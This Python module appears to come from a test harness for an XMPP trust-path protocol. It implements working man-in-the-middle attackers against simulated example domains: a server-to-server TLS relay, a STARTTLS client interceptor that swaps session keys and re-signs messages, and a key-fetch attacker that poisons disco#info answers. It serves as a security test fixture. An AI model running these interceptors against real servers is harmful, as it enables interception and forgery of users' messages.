"""A TLS-terminating man in the middle on the s2s hop, as in the 2023 jabber.ru interception.

It holds certificates for both domains from the CA the servers trust, answers the sending
server as the receiving domain, connects to the receiving server as the sending domain, and
relays the decrypted stream unchanged.  It sits on direct-TLS s2s (XEP-0368): the harness's
DNS points ``_xmpps-server._tcp.b.example`` at it.
"""

from __future__ import annotations

import asyncio
import re
import ssl
import threading
from collections.abc import Callable

from ..sim.tls import Credential


async def _pipe(src: asyncio.StreamReader, dst: asyncio.StreamWriter,
                change: Callable[[bytes], bytes] | None) -> None:
    try:
        while data := await src.read(65536):
            dst.write(change(data) if change is not None else data)
            await dst.drain()
    except (OSError, ssl.SSLError):
        pass
    finally:
        dst.close()


async def relay_both_ways(reader: asyncio.StreamReader, writer: asyncio.StreamWriter,
                          up_reader: asyncio.StreamReader, up_writer: asyncio.StreamWriter, *,
                          upstream: Callable[[bytes], bytes] | None = None) -> None:
    """Pass bytes between a victim's connection and the attacker's own upstream one until either
    closes; ``upstream`` changes what goes up."""
    try:
        await asyncio.gather(_pipe(reader, up_writer, upstream), _pipe(up_reader, writer, None))
    except asyncio.CancelledError:
        writer.close()
        up_writer.close()


async def open_upstream(writer: asyncio.StreamWriter, address: tuple[str, int], **tls: object
                        ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
    """Connect to ``address`` for a victim's connection ``writer`` (``tls``: open_connection's ssl
    and server_hostname); when that fails, close the victim's connection and return None."""
    try:
        return await asyncio.open_connection(*address, **tls)  # type: ignore[arg-type]
    except OSError:
        writer.close()
        return None


def s2s_contexts(as_receiver: Credential, as_sender: Credential,
                 ca_file: str) -> tuple[ssl.SSLContext, ssl.SSLContext]:
    """The TLS contexts of a man in the middle on s2s: one to answer the sending server as the
    receiving domain, one to connect onwards as the sending domain."""
    server = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    server.load_cert_chain(as_receiver.cert_file, as_receiver.key_file)
    server.set_alpn_protocols(["xmpp-server"])
    client = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    client.load_verify_locations(ca_file)
    client.load_cert_chain(as_sender.cert_file, as_sender.key_file)
    return server, client


class _LoopThread:
    """A listener of an attacker, on an event loop of its own in a thread: the harness's clients
    run on the test's loop, and a man in the middle must keep relaying while they wait."""

    name = "listener"

    def _init_loop(self) -> None:
        self._loop = asyncio.new_event_loop()
        self._ready = threading.Event()
        self._error: OSError | None = None
        self._thread = threading.Thread(target=self._run, name=f"trustpath-{self.name}", daemon=True)

    def start(self):  # type: ignore[no-untyped-def]
        self._thread.start()
        if not self._ready.wait(5):
            raise RuntimeError(f"the {self.name} did not start")
        if self._error is not None:
            raise RuntimeError(f"the {self.name} did not start: {self._error} (another harness on the same "
                               "addresses? set TRUSTPATH_LOOPBACK)") from self._error
        return self

    def stop(self) -> None:
        if self._loop.is_running():
            self._loop.call_soon_threadsafe(self._shutdown)
        self._thread.join(timeout=5)

    def _shutdown(self) -> None:
        for task in asyncio.all_tasks(self._loop):
            task.cancel()
        self._loop.call_later(0.05, self._loop.stop)

    async def _serve(self) -> asyncio.AbstractServer:
        """Open the listener (and start whatever else runs on this loop)."""
        raise NotImplementedError

    def _run(self) -> None:
        asyncio.set_event_loop(self._loop)
        self._loop.set_exception_handler(_quiet_when_cancelled)
        try:
            server = self._loop.run_until_complete(self._serve())
        except OSError as exc:  # the address is taken: say so to start() instead of a bare timeout
            self._error = exc
            self._ready.set()
            return
        self._ready.set()
        self._loop.run_forever()
        server.close()


class Interceptor(_LoopThread):
    def __init__(self, listen: tuple[str, int], upstream: tuple[str, int], upstream_name: str,
                 as_receiver: Credential, as_sender: Credential, ca_file: str) -> None:
        self.listen = listen
        self.upstream = upstream
        self.upstream_name = upstream_name
        self._server_ctx, self._client_ctx = s2s_contexts(as_receiver, as_sender, ca_file)
        self._client_ctx.set_alpn_protocols(["xmpp-server"])
        self.name = "s2s-mitm"
        self._init_loop()

    async def _serve(self) -> asyncio.AbstractServer:
        return await asyncio.start_server(self._relay, *self.listen, ssl=self._server_ctx)

    async def _relay(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        upstream = await open_upstream(writer, self.upstream, ssl=self._client_ctx,
                                       server_hostname=self.upstream_name)
        if upstream is not None:
            await relay_both_ways(reader, writer, *upstream)


# --- a man in the middle on a client's c2s hop (H1) ---------------------------------------

NS_STREAMS = b"http://etherx.jabber.org/streams"
_TAG = re.compile(rb"<(/?)([^\s/>!?]+)[^>]*?(/?)>")


def _quiet_when_cancelled(loop: asyncio.AbstractEventLoop, context: dict[str, object]) -> None:
    """An attacker's loop: connections cut short when the world stops are no news."""
    if not isinstance(context.get("exception"), asyncio.CancelledError):
        loop.default_exception_handler(context)


class ElementSplitter:
    """Cuts a client's XML stream into its stream header and its top-level elements, so that the
    attacker can rewrite whole stanzas.  slixmpp escapes '<' and '>' in text and attribute values,
    so the tags alone tell where an element ends."""

    def __init__(self) -> None:
        self._buffer = b""

    def feed(self, data: bytes) -> list[bytes]:
        """The complete pieces in the data so far: stream headers, white space, elements, the end."""
        self._buffer += data
        pieces: list[bytes] = []
        depth, start, pos = 0, 0, 0
        while True:
            match = _TAG.search(self._buffer, pos)
            if match is None:
                break
            closing, name, empty = match.group(1), match.group(2), match.group(3)
            pos = match.end()
            if depth == 0 and name == b"stream:stream" and not closing:  # a stream header (not closed)
                pieces.append(self._buffer[start:pos])
                start = pos
                continue
            if depth == 0 and closing:  # </stream:stream>
                pieces.append(self._buffer[start:pos])
                start = pos
                continue
            if closing:
                depth -= 1
            elif not empty:
                depth += 1
            if depth == 0:
                pieces.append(self._buffer[start:pos])
                start = pos
        self._buffer = self._buffer[start:]
        return pieces


class C2SInterceptor(_LoopThread):
    """A man in the middle on a client's c2s hop with a CA-valid certificate for the server's
    domain (``h1-mitm-careful``, ``first-use-pin-mitm``).

    The client connects to it with STARTTLS; it relays the stream in the clear up to the server's
    <proceed/>, then ends TLS towards the client with its own certificate and opens TLS 1.3 to
    the server (where Prosody offers no SCRAM-PLUS: tls-unique is undefined in TLS 1.3, so the
    client's login, without channel binding, is relayed as it is).  With ``forge`` (the careful
    attacker) it replaces the session key the client announces with its own, and re-signs the
    client's record of every message with it, claiming the pin of the real server's key.
    """

    def __init__(self, listen: tuple[str, int], upstream: tuple[str, int], domain: str, jid: str,
                 credential: Credential, ca_file: str, *, forge: bool) -> None:
        from ...core.keys import SigningKey

        self.listen, self.upstream, self.domain, self.jid, self.forge = listen, upstream, domain, jid, forge
        self.credential = credential
        self.key = SigningKey.generate()
        self._server_ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self._server_ctx.load_cert_chain(credential.cert_file, credential.key_file)
        self._client_ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self._client_ctx.load_verify_locations(ca_file)
        self._client_ctx.minimum_version = ssl.TLSVersion.TLSv1_3
        self.real_view: tuple[str, str] | None = None  # (tls version, short spki) of the real server
        self.rewritten: list[str] = []  # what it changed, for the test's positive control
        self.name = "c2s-mitm"
        self._init_loop()

    async def _serve(self) -> asyncio.AbstractServer:
        return await asyncio.start_server(self._relay, *self.listen)

    async def _relay(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        upstream = await open_upstream(writer, self.upstream)
        if upstream is None:
            return
        up_reader, up_writer = upstream
        try:
            # in the clear, both ways, until the server's <proceed/> (its answer to <starttls/>)
            async def clear_up() -> None:
                while data := await reader.read(65536):
                    up_writer.write(data)

            forward = asyncio.ensure_future(clear_up())
            seen = b""
            while True:
                chunk = await up_reader.read(65536)
                if not chunk:
                    raise ConnectionError("the server closed before <proceed/>")
                seen = seen[-16:] + chunk
                if b"proceed" in seen:
                    # stop relaying the client's clear text before it can see <proceed/>: what it
                    # sends next is its TLS ClientHello, for him
                    forward.cancel()
                    await asyncio.gather(forward, return_exceptions=True)
                    # and leave her ClientHello in the socket until TLS takes over the stream:
                    # read now, it would land in the clear-text reader's buffer, lost to TLS
                    writer.transport.pause_reading()
                    writer.write(chunk)
                    break
                writer.write(chunk)
            await writer.drain()
            await up_writer.drain()
            await up_writer.start_tls(self._client_ctx, server_hostname=self.domain)
            await writer.start_tls(self._server_ctx)
            tls = up_writer.get_extra_info("ssl_object")
            from ...core.keys import short_spki, spki_sha256

            version = {"TLSv1.3": "1.3", "TLSv1.2": "1.2"}.get(tls.version(), "none")
            self.real_view = (version, short_spki(spki_sha256(tls.getpeercert(True))))
        except (OSError, ssl.SSLError, ConnectionError):
            writer.close()
            up_writer.close()
            return

        await relay_both_ways(reader, writer, up_reader, up_writer, upstream=self._rewritten() if self.forge else None)

    def _rewritten(self) -> Callable[[bytes], bytes]:
        """What the careful attacker does to the client's bytes: each top-level element in turn."""
        splitter = ElementSplitter()
        return lambda data: b"".join(self._rewrite(piece) for piece in splitter.feed(data))

    def _rewrite(self, piece: bytes) -> bytes:
        """One top-level element from the client, as the careful attacker passes it on."""
        from ...core.attest import attest
        from ...core.codec import add_record, find_path_element, message_fields, remove_paths
        from ...core.model import NS, Result, View

        if not piece.lstrip().startswith((b"<iq", b"<message")) or NS.encode() not in piece:
            return piece
        from lxml import etree

        wrapper = etree.fromstring(b"<w xmlns='jabber:client'>" + piece + b"</w>")
        root = wrapper[0]
        for element in root.iter(f"{{{NS}}}session-key", f"{{{NS}}}client-key"):  # the key she announces
            announced = element.get("key")
            if announced:  # ... becomes the one he holds, written the same way ('ed25519:<key>')
                alg = announced.rsplit(":", 1)[0] + ":" if ":" in announced else ""
                element.set("key", alg + self.key.public)
                self.rewritten.append("session-key")
        if root.tag == "{jabber:client}message" and find_path_element(root) is not None and self.real_view:
            root.set("from", self.jid)
            fields = message_fields(root)
            del root.attrib["from"]
            remove_paths(root)
            claim = View("pin", Result.PASS, *self.real_view)
            add_record(root, attest(fields, self.key, out_view=claim))
            self.rewritten.append("record")
        return etree.tostring(root)


# --- a man in the middle on the receiving server's own link to the sender's (key-fetch-poisoned) ---

_STREAM_HEADER = ("<?xml version='1.0'?><stream:stream xmlns='jabber:server' "
                  "xmlns:stream='http://etherx.jabber.org/streams' xmlns:db='jabber:server:dialback' "
                  "from='{me}' to='{peer}' version='1.0'{extra}>")
_ATTR = r"""{name}=(?:'([^']*)'|"([^"]*)")"""


def _attr(tag: bytes, name: str) -> str | None:
    match = re.search(_ATTR.format(name=name).encode(), tag)
    return None if match is None else (match.group(1) or match.group(2) or b"").decode()


class KeyFetchAttacker(_LoopThread):
    """A man in the middle holding a CA-valid certificate for ``victim`` (a.example) on the
    receiving server's (b.example's) OWN link to it: the harness's DNS sends b.example's
    direct-TLS s2s connections for a.example to him.  He accepts that stream as a.example (b.example
    checks his certificate against the CA; he accepts its dialback), reads what b.example asks
    a.example, and answers every disco#info query with the trust-path key form of a key of his
    own.  Prosody 0.12 takes no stanzas on a stream it opened (no bidi), so the answer goes back
    the way a.example's own would: on a stream he opens to b.example as a.example, authenticated
    with SASL EXTERNAL by the same CA-valid certificate."""

    def __init__(self, listen: tuple[str, int], victim: str, target: tuple[str, str, int], credential: Credential,
                 ca_file: str) -> None:
        from ...core.keys import SigningKey

        self.listen, self.victim, self.credential = listen, victim, credential
        self.target_domain, self.target = target[0], (target[1], target[2])
        self.key = SigningKey.generate()
        self.answered: list[str] = []  # ids of the queries he answered with his key
        self._server_ctx, self._client_ctx = s2s_contexts(credential, credential, ca_file)
        self._answers: asyncio.Queue[bytes] | None = None
        self.name = "keyfetch-mitm"
        self._init_loop()

    async def _serve(self) -> asyncio.AbstractServer:
        self._answers = asyncio.Queue()
        server = await asyncio.start_server(self._accept, *self.listen, ssl=self._server_ctx)
        self._loop.create_task(self._answer_back())
        return server

    def _poisoned(self, query: bytes) -> bytes:
        """The disco#info result he sends for ``query`` (one of b.example's iq gets to a.example)."""
        from lxml import etree

        from ...core.disco import key_form
        from ...core.keys import KeySet, PublishedKey
        from ...core.model import NS

        iq = etree.fromstring(b"<w xmlns='jabber:server'>" + query + b"</w>")[0]
        result = etree.Element("{jabber:server}iq", nsmap={None: "jabber:server"}, type="result",
                               id=iq.get("id", ""), to=iq.get("from", self.target_domain), **{"from": self.victim})
        asked = iq.find("{http://jabber.org/protocol/disco#info}query")
        answer = etree.SubElement(result, "{http://jabber.org/protocol/disco#info}query",
                                  nsmap={None: "http://jabber.org/protocol/disco#info"})
        if asked is not None and asked.get("node"):
            answer.set("node", asked.get("node"))
        etree.SubElement(answer, "{http://jabber.org/protocol/disco#info}identity", category="server", type="im")
        for var in ("http://jabber.org/protocol/disco#info", NS):
            etree.SubElement(answer, "{http://jabber.org/protocol/disco#info}feature", var=var)
        answer.append(key_form(KeySet(self.victim, (PublishedKey(self.key.public),))))
        return etree.tostring(result)

    async def _accept(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """b.example's own stream to 'a.example': dialback accepted, disco#info queries answered."""
        splitter = ElementSplitter()
        try:
            while data := await reader.read(65536):
                for piece in splitter.feed(data):
                    head = piece.lstrip()
                    if head.startswith((b"<?xml", b"<stream:stream")):
                        writer.write(_STREAM_HEADER.format(me=self.victim, peer=self.target_domain,
                                                           extra=" id='mitm-in'").encode()
                                     + b"<stream:features><dialback xmlns='urn:xmpp:features:dialback'/>"
                                       b"</stream:features>")
                    elif head.startswith(b"<db:result"):
                        writer.write(f"<db:result from='{self.victim}' to='{self.target_domain}' "
                                     f"type='valid'/>".encode())
                    elif head.startswith(b"<iq") and b"disco#info" in head and _attr(head[:200], "type") == "get":
                        assert self._answers is not None
                        await self._answers.put(self._poisoned(head))
                await writer.drain()
        except (OSError, ssl.SSLError, asyncio.CancelledError):
            pass
        finally:
            writer.close()

    async def _until(self, reader: asyncio.StreamReader, *markers: bytes) -> bytes:
        data = b""
        while not any(m in data for m in markers):
            chunk = await reader.read(65536)
            if not chunk:
                raise ConnectionError(f"b.example closed the stream: {data[-300:]!r}")
            data += chunk
        return data

    async def _answer_back(self) -> None:
        """His stream to b.example as a.example, opened on the first answer and kept."""
        assert self._answers is not None
        writer: asyncio.StreamWriter | None = None
        header = _STREAM_HEADER.format(me=self.victim, peer=self.target_domain, extra="").encode()
        while True:
            answer = await self._answers.get()
            try:
                if writer is None:
                    reader, writer = await asyncio.open_connection(*self.target)
                    writer.write(header)
                    await self._until(reader, b"</stream:features>")
                    writer.write(b"<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>")
                    await self._until(reader, b"proceed")
                    await writer.start_tls(self._client_ctx, server_hostname=self.target_domain)
                    writer.write(header)
                    features = await self._until(reader, b"</stream:features>")
                    if b"EXTERNAL" not in features:
                        raise ConnectionError(f"b.example offers no SASL EXTERNAL: {features[-300:]!r}")
                    writer.write(b"<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='EXTERNAL'>=</auth>")
                    await self._until(reader, b"success", b"failure")
                    writer.write(header)
                    await self._until(reader, b"</stream:features>")
                writer.write(answer)
                await writer.drain()
                self.answered.append(_attr(answer[:300], "id") or "")
            except (OSError, ssl.SSLError, ConnectionError) as exc:
                import logging

                logging.getLogger(__name__).warning("key-fetch attacker: %s", exc)
                writer = None
